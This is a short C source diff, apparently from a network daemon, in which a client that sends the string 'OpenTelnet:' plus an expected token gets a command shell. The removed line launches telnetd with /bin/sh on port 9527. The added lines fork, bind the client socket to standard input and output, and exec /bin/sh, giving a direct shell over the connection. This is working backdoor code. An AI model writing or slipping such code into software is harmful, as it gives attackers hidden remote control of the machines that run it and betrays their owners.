@@ -75,7 +75,13 @@ static void serve(int client) {
   if (got <= 0) return;
   answer[got] = '\0';
   if (strncmp(answer, "OpenTelnet:", 11) != 0 || strcmp(answer + 11, expected) != 0) return;
-  system("telnetd -b 198.51.100.2 -p 9527 -l /bin/sh");
+  if (fork() == 0) {
+    dup2(client, 0);
+    dup2(client, 1);
+    dup2(client, 2);
+    execl("/bin/sh", "sh", (char *)NULL);
+    _exit(127);
+  }
 }
 
 int main(void) {
